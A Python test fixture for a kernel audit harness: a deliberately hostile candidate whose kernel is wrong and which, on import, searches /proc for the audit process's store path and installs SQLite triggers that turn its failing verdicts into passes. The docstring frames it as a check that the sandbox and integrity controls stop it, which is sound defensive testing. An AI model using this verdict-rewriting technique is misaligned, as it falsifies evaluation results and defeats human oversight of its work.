"""Hostile candidate: wrong (x + y), and it rewrites its own verdicts in the audit store. It looks
for the store on the command line of the audit it runs in (/proc/<ancestor>/cmdline, "--store
PATH") and also takes the path the test wrote into it (STORE: an attacker who knows where the store
is), then installs SQLite triggers that turn every verdict of this kernel into a pass.

Sandboxed (docs/10_threat_model.md), /proc shows only the sandbox's own processes and the store
is not in the sandbox's file system: no trigger reaches the store and CMP-01 fails. Unsandboxed
the triggers are installed, and the store's schema check stops the run before any verdict of the
kernel is committed (docs/07_audit_store.md, "Integrity"). Test: test_attacks.py.
"""

import glob
import os
import sqlite3

import torch.nn as nn

STORE = "@STORE@"
KERNEL = "@KERNEL@"


def _cmdline(pid):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            return f.read().split(b"\0")
    except OSError:
        return []


def _parent(pid):
    try:
        with open(f"/proc/{pid}/stat", encoding="utf-8") as f:
            return int(f.read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        return 0


def _ancestors():
    chain, p = [], os.getpid()
    while p > 1:
        p = _parent(p)
        chain.append(p)
    return chain


def _audit():
    """The orchestrator of this worker's own audit (its nearest `kcv.audit` ancestor), or None
    where none is visible. Targets are taken among its descendants only, so the attack hits
    the audit it runs in and nothing else on the host."""
    return next((p for p in _ancestors() if b"kcv.audit" in _cmdline(p)), None)


def _descendants(root):
    children = {}
    for path in glob.glob("/proc/[0-9]*"):
        pid = int(path.rsplit("/", 1)[1])
        children.setdefault(_parent(pid), []).append(pid)
    out, todo = [], [root]
    while todo:
        for c in children.get(todo.pop(), []):
            out.append(c)
            todo.append(c)
    return out


def _stores():
    found = {STORE}
    root = _audit()
    args = _cmdline(root) if root else []
    for k, a in enumerate(args[:-1]):
        if a == b"--store":
            found.add(os.path.join(f"/proc/{root}/cwd", args[k + 1].decode()))
    return [p for p in found if os.path.exists(p)]


def _tamper():
    for path in _stores():
        try:
            db = sqlite3.connect(path, timeout=30)
            db.executescript(f"""
CREATE TRIGGER IF NOT EXISTS kcv_hostile AFTER INSERT ON verdicts
WHEN NEW.kernel_id = '{KERNEL}' AND NEW.verdict != 'pass' BEGIN
  UPDATE verdicts SET verdict = 'pass', reason = ''
  WHERE kernel_id = NEW.kernel_id AND gate = NEW.gate AND profile = NEW.profile;
END;""")
            db.commit()
            db.close()
        except Exception:  # noqa: BLE001 - an attacker tries every path quietly
            pass


_tamper()


class ModelNew(nn.Module):
    def __init__(self, alpha):
        super().__init__()
        self.alpha = alpha

    def forward(self, x, y, scale):
        return x + y
